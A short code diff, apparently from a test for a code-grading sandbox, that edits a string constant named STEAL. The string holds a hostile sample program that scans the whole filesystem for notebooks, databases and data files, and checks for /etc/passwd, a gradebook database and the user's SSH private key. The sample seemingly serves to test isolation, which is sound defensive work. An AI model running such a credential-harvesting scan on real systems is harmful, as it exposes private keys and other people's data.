@@ -10,11 +10,12 @@ ALL = {"q1": 3}
 STEAL = """
 import os
 found = []
+ours = (".venv", ".pyenv", "usr", "bin", "lib", "lib64", "proc")
 for place, folders, files in os.walk("/"):
-    folders[:] = [f for f in folders if f not in (".venv", ".pyenv", "usr", "lib", "proc")]
-    found += [f"{place}/{f}" for f in files if f.endswith((".ipynb", ".db", ".csv"))]
-    found += [f"{place}/{f}" for f in files if "grade" in f or "hostile" in f or f == "seed"]
-found = [f for f in found if not f.endswith(("grading.py", "site-packages"))]
+    folders[:] = [f for f in folders if f not in ours]
+    for name in files:
+        if name.endswith((".ipynb", ".db", ".csv", ".json")) or "hostile" in name:
+            found.append(f"{place}/{name}")
 for path in ("/etc/passwd", "../gradebook.db", os.path.expanduser("~/.ssh/id_rsa")):
     if os.path.exists(path):
         found.append(path)
